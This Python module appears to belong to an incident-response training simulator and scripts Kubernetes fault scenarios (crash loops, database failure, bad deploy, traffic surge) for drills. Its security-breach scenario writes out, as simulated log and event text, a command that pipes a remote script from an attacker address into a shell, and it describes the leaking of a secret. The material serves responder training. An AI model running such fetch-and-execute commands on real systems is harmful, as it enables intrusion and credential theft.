"""Fault scenarios: named, scripted incidents for drills, tests and the demo.

A scenario flips flags in `Faults`; the kubelet asks `Faults` what a container does when it
starts (crash, stay unready, fail its image pull), and telemetry asks it what the services
answer and log. So a scenario never writes pod status itself: the same controllers that run
a healthy cluster play the incident, and the runbook's remediations act on it the way they
would on a real cluster (a restart does not cure a fault whose cause is elsewhere).

Each scenario's docstring is its script: what breaks, what a responder sees, what fixes it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from irtui.sim import objects as o

if TYPE_CHECKING:
    from irtui.sim.runtime import Container, PodRT
    from irtui.sim.world import World

DB_USERS = ("task-service", "sync-service", "handover-service", "emr-service")

# The security breach's cast: the workload that was broken into, the Secret its attacker
# read and sent out, the address it talks to, and the identity that got in.
COMPROMISED_SERVICE = "sync-service"
LEAKED_SECRET = "emr-oauth-client"
ATTACKER = "185.220.101.7"
INTRUDER = "system:serviceaccount:default:ci-runner"
ROGUE_BINDING = "sync-service-admin"


@dataclass(slots=True)
class Fate:
    """What a running container does: crash after some seconds, and/or fail readiness."""

    crash_after: float | None = None
    theme: str | None = None
    exit_code: int = 1
    exit_reason: str = "Error"
    ready: bool = True
    unready_message: str = ""


class Faults:
    """The fault flags scenarios set, with their history (log lines are written after the fact)."""

    def __init__(self, world: World):
        self.world = world
        self._timeline: dict[str, list[list[float | None]]] = {}
        self.broken_images: set[str] = set()
        self.compromised: set[str] = set()  # names of pods an intruder runs code in
        self.failover_since: float | None = None  # apps started after this use postgres-replica

    def on(self, flag: str) -> None:
        spans = self._timeline.setdefault(flag, [])
        if not spans or spans[-1][1] is not None:
            spans.append([self.world.now(), None])

    def off(self, flag: str) -> None:
        spans = self._timeline.get(flag)
        if spans and spans[-1][1] is None:
            spans[-1][1] = self.world.now()

    def active(self, flag: str, t: float | None = None) -> bool:
        spans = self._timeline.get(flag)
        if not spans:
            return False
        if t is None:
            return spans[-1][1] is None
        for start, end in reversed(spans):
            if start <= t and (end is None or t < end):
                return True
            if end is not None and end <= t:
                return False
        return False

    def traffic_multiplier(self) -> float:
        return 4.0 if self.active("traffic_surge") else 1.0

    # -- the database ------------------------------------------------------------------

    def primary_ready(self) -> bool:
        rt = self.world.pods.get((o.PLATFORM_NS, "postgres-0"))
        return rt is not None and rt.ready and not rt.terminating

    def replica_ready(self) -> bool:
        rt = self.world.pods.get((o.PLATFORM_NS, "postgres-replica-0"))
        return rt is not None and rt.ready and not rt.terminating

    def db_ok_for(self, rt: PodRT | None) -> bool:
        """Can this pod's process reach a working database (the primary, or after failover the replica)?"""
        if self.primary_ready() and not self.active("db_hung") and not self.active("db_corrupt"):
            return True
        if self.failover_since is not None and rt is not None and self.replica_ready():
            runs = rt.containers[0].runs if rt.containers else []
            return bool(runs) and runs[-1].started >= self.failover_since
        return False

    def db_problem(self, t: float | None = None) -> str | None:
        if self.active("db_hung", t):
            return "hung"
        if self.active("db_corrupt", t):
            return "down"
        if t is None and not self.primary_ready():
            return "down"
        return None

    # -- what the kubelet asks ---------------------------------------------------------

    def fate(self, rt: PodRT, c: Container) -> Fate:
        rng = self.world.rng
        if rt.one_shot:
            return Fate(crash_after=rng.uniform(1.0, 3.0), exit_code=0, exit_reason="Completed")
        if rt.namespace != o.PLATFORM_NS:
            return Fate()
        if rt.app == "task-service" and self.active("pool_exhausted"):
            return Fate(crash_after=rng.uniform(10.0, 14.0), theme="pool", ready=False,
                        unready_message="HTTP probe failed with statuscode: 503")
        if rt.name == "postgres-0" and self.active("db_corrupt"):
            return Fate(crash_after=rng.uniform(2.0, 3.0), theme="corrupt", ready=False,
                        unready_message="/var/run/postgresql:5432 - no response")
        if rt.name == "postgres-0" and self.active("db_hung"):
            return Fate(ready=False, unready_message='command "pg_isready -U postgres" timed out')
        return Fate()

    def pull_failure(self, rt: PodRT, c: Container) -> str | None:
        if c.image in self.broken_images:
            return (f'rpc error: code = NotFound desc = failed to pull and unpack image "{c.image}": '
                    f'failed to resolve reference "{c.image}": {c.image}: not found')
        return None

    def shutdown_seconds(self, rt: PodRT) -> float:
        if rt.app.startswith("postgres"):
            return 4.0
        return 0.5 if rt.filler else 2.0

    def on_pod_gone(self, rt: PodRT) -> None:
        if rt.namespace != o.PLATFORM_NS or rt.name != "postgres-0":
            return
        # Restarting the primary ends its stuck sessions and its hang: the runbook's
        # "kubectl delete pod postgres-0". A corrupt data directory survives it.
        for flag in ("db_hung", "pool_exhausted"):
            if self.active(flag):
                self.off(flag)
                self.world.note(f"postgres-0 restarted: {flag} cleared")

    def on_configmap(self, cm: dict) -> None:
        if cm["metadata"].get("namespace") != o.PLATFORM_NS or cm["metadata"]["name"] != "postgres-config":
            return
        host = (cm.get("data") or {}).get("DB_HOST", "")
        if host.startswith("postgres-replica"):
            if self.failover_since is None:
                self.failover_since = self.world.now()
        else:
            self.failover_since = None


# --- scenarios -------------------------------------------------------------------------

class Scenario:
    name = ""
    summary = ""

    def start(self, world: World) -> None:
        raise NotImplementedError

    def stop(self, world: World) -> None:
        raise NotImplementedError

    def resolved(self, world: World) -> bool:
        """True once the responders have removed the cause (the scenario then stops by itself)."""
        return False


def _app_pods(world: World, app: str) -> list[PodRT]:
    return [rt for name in sorted(world.app_pods.get((o.PLATFORM_NS, app), ()))
            if (rt := world.pods.get((o.PLATFORM_NS, name))) is not None]


class CrashloopTaskService(Scenario):
    """Database connection pool exhausted: task-service crash-loops (P0/P1, the runbook's 5-whys example).

    Long-running queries hold every connection of the pool, so task-service cannot acquire
    one: each container logs `Knex: Timeout acquiring a connection. The pool is probably
    full.`, fails readiness (503), and exits 1 about 12 s after it starts. Pods go Error ->
    CrashLoopBackOff with back-off 10 s, 20 s ... 300 s and climbing restarts; `logs --previous`
    shows the crash. No task-service pod is ready, so its Service answers 503 (no endpoints);
    api-gateway returns 502/503 for the ~45% of its traffic that goes to task-service, and its
    error counters rise; handover-service answers /health 200 `degraded` (task-service unavailable). postgres logs the long statements and refused connections.

    Does not fix it: `rollout restart` or scaling task-service (new pods crash the same way).
    Fixes it: restarting the primary (`kubectl delete pod postgres-0`) kills the stuck queries;
    task-service pods then start cleanly at their next back-off. Stopping the scenario heals.
    """

    name = "crashloop-task-service"
    summary = "task-service crash-loops: DB connection pool exhausted"

    def start(self, world: World) -> None:
        world.faults.on("pool_exhausted")
        for rt in _app_pods(world, "task-service"):
            for c in rt.containers:
                if c.state == "running":
                    world.kubelet.apply_fate(rt, c, delay=world.rng.uniform(2.0, 8.0))

    def stop(self, world: World) -> None:
        world.faults.off("pool_exhausted")

    def resolved(self, world: World) -> bool:
        return not world.faults.active("pool_exhausted")


class NodeNotReady(Scenario):
    """A worker node's kubelet stops reporting (P1): NotReady, then taint-based eviction.

    The busiest platform worker not running postgres goes silent. After the node monitor grace
    period (40 s) the node controller marks it Ready=Unknown ("Kubelet stopped posting node
    status."), taints it node.kubernetes.io/unreachable (NoSchedule + NoExecute), emits
    NodeNotReady, and its pods become unready (READY 0/1). After the pods' 300 s toleration the
    taint manager evicts them: the ReplicaSets create replacements on the other nodes, while the
    evicted pods stay Terminating because no kubelet can confirm they stopped (force-delete them,
    or heal the node). Cordon (`spec.unschedulable`) keeps new pods off a node.

    Stopping the scenario brings the kubelet back: Ready, taints removed, stuck pods finish.
    """

    name = "node-notready"
    summary = "a worker node goes NotReady; its pods are evicted after 5 minutes"

    def __init__(self) -> None:
        self.node: str | None = None

    def start(self, world: World) -> None:
        candidates = []
        for node in world.nodes_in_pool("platform"):
            pods = [world.pods.get(k) for k in node.pods]
            if any(rt is not None and rt.app.startswith("postgres") for rt in pods):
                continue
            candidates.append((-len(node.pods), node.name))
        if not candidates:
            candidates = [(0, n.name) for n in world.nodes_in_pool("platform")] or [(0, next(iter(world.nodes)))]
        self.node = min(candidates)[1]
        world.node_ctl.stop_kubelet(world.nodes[self.node])

    def stop(self, world: World) -> None:
        if self.node and self.node in world.nodes:
            world.node_ctl.start_kubelet(world.nodes[self.node])


class EmrIntegrationFailure(Scenario):
    """The EHR's FHIR endpoint and OAuth token service fail (P1: EMR integration failing).

    emr-service stays Running and Ready, but its /health answers 503 `EMR upstream
    unavailable`; ~65% of its requests fail with 502/504 and latency climbs (30 s timeouts);
    logs show FHIR 502s, ETIMEDOUT and `OAuth token refresh failed: invalid_client`. api-gateway
    passes the failures on for EMR routes; sync-service errors rise a little and its /health
    answers 200 `degraded` (`emr: unavailable`).

    Does not fix it: restarting emr-service (the upstream is still down).
    Mitigates it: `kubectl set env deployment/emr-service EMR_FALLBACK_MODE=true` — pods of the
    new rollout serve cached data: /health 200 `degraded`, errors drop to ~3%.
    Stopping the scenario restores the upstream.
    """

    name = "emr-integration-failure"
    summary = "EMR FHIR/OAuth upstream failing; fallback mode mitigates"

    def start(self, world: World) -> None:
        world.faults.on("emr_upstream_down")

    def stop(self, world: World) -> None:
        world.faults.off("emr_upstream_down")


class CompleteOutage(Scenario):
    """Complete service outage (P0): the primary database hangs, and everything behind it fails.

    postgres-0 stays Running but stops answering (`pg_isready` times out: READY 0/1, Unhealthy
    events, lock-wait lines in its log). Every service that needs the database answers /health
    503 `database unavailable` and fails ~97% of requests with 500/503; api-gateway fails nearly
    everything with 502/503; emr-service too. Pods stay up, so `kubectl get pods -A | grep -v
    Running` shows little: the clue is READY 0/1 on postgres-0 and the error counters.

    Does not fix it: `kubectl rollout restart deployment -n emrtask-prod` (the database is still
    hung). Fixes it: the runbook's database step 3, `kubectl delete pod postgres-0` — the
    StatefulSet recreates it and services recover on their own. Stopping the scenario heals.
    """

    name = "complete-outage"
    summary = "P0: primary database hung, every service failing"

    def start(self, world: World) -> None:
        world.faults.on("db_hung")
        rt = world.pods.get((o.PLATFORM_NS, "postgres-0"))
        if rt is not None:
            for c in rt.containers:
                if c.state == "running":
                    world.kubelet.apply_fate(rt, c, delay=0.0)

    def stop(self, world: World) -> None:
        world.faults.off("db_hung")

    def resolved(self, world: World) -> bool:
        return not world.faults.active("db_hung")


class DatabaseFailure(Scenario):
    """Primary database failure (P0): postgres-0's data directory is corrupt; it crash-loops.

    postgres-0 exits at start with `PANIC: could not locate a valid checkpoint record`
    (CrashLoopBackOff, restarts climbing, `logs --previous` has the PANIC). task-, sync-,
    handover- and emr-service answer /health 503 `database unavailable` and fail most requests.

    Does not fix it: `kubectl delete pod postgres-0` (the volume is still corrupt).
    Fixes it: fail over as the runbook's steps 4-5 say — point `DB_HOST` in ConfigMap
    `postgres-config` at `postgres-replica`, then `kubectl rollout restart` the services: pods
    started after the ConfigMap change use the replica and become healthy. Stopping the
    scenario repairs the primary.
    """

    name = "database-failure"
    summary = "P0: primary database corrupt and crash-looping; fail over to the replica"

    def start(self, world: World) -> None:
        world.faults.on("db_corrupt")
        rt = world.pods.get((o.PLATFORM_NS, "postgres-0"))
        if rt is not None:
            for c in rt.containers:
                world.kubelet.restart_container(rt, c, theme="corrupt", exit_code=1)

    def stop(self, world: World) -> None:
        world.faults.off("db_corrupt")


class BadDeploy(Scenario):
    """A release of api-gateway points at an image tag that does not exist (P2 until noticed).

    The Deployment rolls to `api-gateway:2.8.0`; the new ReplicaSet's pod sits in ErrImagePull /
    ImagePullBackOff while the old pods keep serving (maxUnavailable rounds down to 0), so
    `kubectl rollout status` waits and, after progressDeadlineSeconds (600 s), fails with
    ProgressDeadlineExceeded. Fixes it: `kubectl rollout undo deployment/api-gateway` (the
    controller reuses the previous ReplicaSet under a new revision and scales the broken one to
    0). Stopping the scenario does that undo if nobody has.
    """

    name = "bad-deploy"
    summary = "api-gateway rolled to a missing image: ImagePullBackOff; fix with rollout undo"
    target = "api-gateway"
    bad_tag = "2.8.0"

    def _image(self) -> str:
        return f"{o.REGISTRY}/{self.target}:{self.bad_tag}"

    def start(self, world: World) -> None:
        world.faults.broken_images.add(self._image())
        d = world.store.get("deployments", o.PLATFORM_NS, self.target)
        if d is None:
            return
        template = d["spec"]["template"]
        containers = [{**c, "image": self._image()} if c["name"] == self.target else c
                      for c in template["spec"]["containers"]]
        labels = {**template["metadata"].get("labels", {}), "app.kubernetes.io/version": self.bad_tag}
        new_template = {**template, "metadata": {**template["metadata"], "labels": labels},
                        "spec": {**template["spec"], "containers": containers}}
        annotations = {**(d["metadata"].get("annotations") or {}),
                       "kubernetes.io/change-cause": f"helm upgrade emrtask-prod: api-gateway {self.bad_tag}"}
        world.write("deployments", {**d, "metadata": {**d["metadata"], "annotations": annotations},
                                    "spec": {**d["spec"], "template": new_template}})
        world.dirty_deploy.add((o.PLATFORM_NS, self.target))

    def _uses_bad_image(self, world: World) -> bool:
        d = world.store.get("deployments", o.PLATFORM_NS, self.target)
        if d is None:
            return False
        return any(c.get("image") == self._image() for c in d["spec"]["template"]["spec"]["containers"])

    def stop(self, world: World) -> None:
        if self._uses_bad_image(world):
            d = world.store.get("deployments", o.PLATFORM_NS, self.target)
            uid = d["metadata"]["uid"]
            previous = None
            for name in world.children_rs.get(uid, ()):
                rs = world.store.get("replicasets", o.PLATFORM_NS, name)
                if rs is None or any(c.get("image") == self._image()
                                     for c in rs["spec"]["template"]["spec"]["containers"]):
                    continue
                rev = int(rs["metadata"].get("annotations", {}).get("deployment.kubernetes.io/revision", "0"))
                if previous is None or rev > previous[0]:
                    previous = (rev, rs)
            if previous is not None:
                template = previous[1]["spec"]["template"]
                labels = {k: v for k, v in template["metadata"].get("labels", {}).items() if k != "pod-template-hash"}
                template = {**template, "metadata": {**template["metadata"], "labels": labels}}
                world.write("deployments", {**d, "spec": {**d["spec"], "template": template}})
                world.dirty_deploy.add((o.PLATFORM_NS, self.target))
        world.faults.broken_images.discard(self._image())

    def resolved(self, world: World) -> bool:
        if self._uses_bad_image(world):
            return False
        return not any(c.image == self._image() for rt in _app_pods(world, self.target) for c in rt.containers)


class TrafficSurge(Scenario):
    """Four times the usual traffic hits api-gateway (P2: slow responses, intermittent errors).

    Each api-gateway pod serves about 70 requests/s; at 4x load its 3 pods are ~2.3x over
    capacity: latency climbs steeply (the duration histogram shifts right), ~35% of requests
    are shed with 503, `kubectl top pods` shows the gateway's CPU up, /health answers 200
    `degraded` with the overload, and the logs fill with "request queue full" and slow requests.

    Fixes it: the runbook's "scale up resources" — `kubectl scale deployment/api-gateway
    --replicas=7` or more brings each pod under capacity. Restarting does nothing useful.
    Stopping the scenario ends the surge.
    """

    name = "traffic-surge"
    summary = "4x traffic on api-gateway: latency and 503s until it is scaled out"

    def start(self, world: World) -> None:
        world.faults.on("traffic_surge")

    def stop(self, world: World) -> None:
        world.faults.off("traffic_surge")


class SecurityBreach(Scenario):
    """A compromised workload (P0: security breach), which looks healthy on every dashboard.

    An intruder holding a CI service account (`system:serviceaccount:default:ci-runner`)
    execs into each running sync-service pod and pipes a script from 185.220.101.7 into a
    shell. From then on the pods' logs carry the dropper's lines among the service's own:
    `+ sh -c 'curl -fsSL http://185.220.101.7/x.sh | sh'`, `connect to 185.220.101.7:443 ...`,
    and the upload of the EMR OAuth client's credentials (Secret `emr-oauth-client`: leaked);
    `kubectl top` shows their CPU up (the implant mines). Warning events say what the audit
    trail and runtime security saw: `ExecIntoPod` by an identity that is not the platform's,
    `OutboundConnection` to an address outside the egress allow-list, `SecretAccessed` on
    `emr-oauth-client` by a workload that does not mount it, and `ClusterRoleBindingCreated`
    (`sync-service-admin` binds cluster-admin to sync-service's service account).

    What does not show: errors, latency, failing health checks. sync-service keeps serving
    and every /health says ok; a breach is found in logs and events, not on the error panes.

    Contains it (the runbook's security playbook): isolate the compromised service (`kubectl
    scale deployment/sync-service --replicas=0`; a rollout restart also replaces the
    compromised pods) and revoke the leaked credential (`kubectl delete secret
    emr-oauth-client`). Once no compromised pod is left and the Secret is gone, the scenario
    ends by itself; stopping it ends the intrusion too.
    """

    name = "security-breach"
    summary = "sync-service compromised: outbound connections, a leaked secret; looks healthy"

    def start(self, world: World) -> None:
        faults = world.faults
        faults.on("breach")
        events = world.events
        for rt in _app_pods(world, COMPROMISED_SERVICE):
            if rt.terminating or not any(c.state == "running" for c in rt.containers):
                continue
            faults.compromised.add(rt.name)
            container = rt.containers[0].name
            events.emit(rt.ref(), "ExecIntoPod",
                        f"exec into {rt.name} (container {container}) by {INTRUDER}, not a platform identity: "
                        f"sh -c 'curl -fsSL http://{ATTACKER}/x.sh | sh'",
                        type_="Warning", component="audit-monitor")
            events.emit(rt.ref(), "OutboundConnection",
                        f"unexpected outbound connection from {rt.name} to {ATTACKER}:443 "
                        f"(process kworkerd, not in the egress allow-list)",
                        type_="Warning", component="runtime-security", host=rt.node)
        secret = world.store.get("secrets", o.PLATFORM_NS, LEAKED_SECRET)
        if secret is not None:
            events.emit(o.involved(secret), "SecretAccessed",
                        f"Secret {LEAKED_SECRET} read by system:serviceaccount:{o.PLATFORM_NS}:{COMPROMISED_SERVICE}, "
                        f"which does not mount it; its values were sent to {ATTACKER}:443 (leaked)",
                        type_="Warning", component="audit-monitor")
        account = {"kind": "ServiceAccount", "namespace": o.PLATFORM_NS, "name": COMPROMISED_SERVICE,
                   "apiVersion": "v1"}
        events.emit(account, "ClusterRoleBindingCreated",
                    f"ClusterRoleBinding {ROGUE_BINDING} created by {INTRUDER}: binds cluster-admin to "
                    f"system:serviceaccount:{o.PLATFORM_NS}:{COMPROMISED_SERVICE}",
                    type_="Warning", component="audit-monitor")

    def stop(self, world: World) -> None:
        world.faults.off("breach")
        world.faults.compromised.clear()

    def resolved(self, world: World) -> bool:
        isolated = not any(rt.name in world.faults.compromised and not rt.terminating
                           for rt in _app_pods(world, COMPROMISED_SERVICE))
        return isolated and world.store.get("secrets", o.PLATFORM_NS, LEAKED_SECRET) is None


SCENARIOS: dict[str, type[Scenario]] = {
    cls.name: cls for cls in (CrashloopTaskService, NodeNotReady, EmrIntegrationFailure, CompleteOutage,
                              DatabaseFailure, BadDeploy, TrafficSurge, SecurityBreach)
}
